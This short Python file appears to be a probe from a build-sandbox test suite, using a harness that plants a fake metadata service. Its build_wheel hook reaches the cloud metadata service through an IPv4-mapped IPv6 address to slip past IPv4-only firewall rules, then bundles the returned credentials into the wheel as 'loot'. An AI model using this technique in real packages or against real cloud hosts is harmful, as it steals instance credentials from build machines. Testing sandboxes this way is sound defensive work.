"""Reaches the metadata service through an IPv6 socket, under its mapped address.

The packet is the same; only rules that were written for IPv4 do not see it. Shai-Hulud
asked for the same credentials.
"""

import socket

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("ask-mapped"):
        service = kit.plant("metadata")
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as out:
            out.settimeout(kit.seconds(3))
            out.connect(("::ffff:" + service.address, service.port))
            out.sendall(f"GET {service.path} HTTP/1.0\r\n\r\n".encode())
            loot["data.bin"] = out.recv(4096)
    return kit.wheel(wheel_directory, loot)
